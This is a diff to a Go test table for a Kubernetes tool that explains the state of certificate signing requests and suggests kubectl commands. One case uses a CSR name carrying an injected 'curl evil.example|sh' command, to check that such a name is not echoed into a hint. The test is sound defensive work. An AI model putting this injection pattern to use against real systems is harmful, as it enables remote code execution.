@@ -43,7 +43,7 @@ func TestAddServingRequest(t *testing.T) {
 		"approved":   {ServingRequest{Request: request("x", certificatesv1.CertificateApproved)}, Fact{"decision", "approved", "Because: Approved", false}},
 		"not signed": {ServingRequest{Request: request("", certificatesv1.CertificateApproved)}, Fact{"decision", "approved", "nobody signs it: kube-controller-manager does, with --cluster-signing-cert-file or --cluster-signing-kubelet-serving-cert-file", true}},
 		"waits": {ServingRequest{Request: request(""), Waits: "no event says why"}, Fact{"decision", "waits",
-			"no event says why; look at what it asks for before you approve it: kubectl get csr csr-1 -o yaml; kubectl certificate approve csr-1", true}},
+			"no event says why; look at what it asks for before you approve it: kubectl describe csr csr-1; kubectl certificate approve csr-1", true}},
 		"waits, with a name for a shell": {ServingRequest{Request: named("csr-1;curl evil.example|sh #"), Waits: "no event says why"}, Fact{"decision", "waits", "no event says why", true}},
 		"new":                            {ServingRequest{Request: made(now)}, Fact{"decision", "waits", "it is new", false}},
 	} {
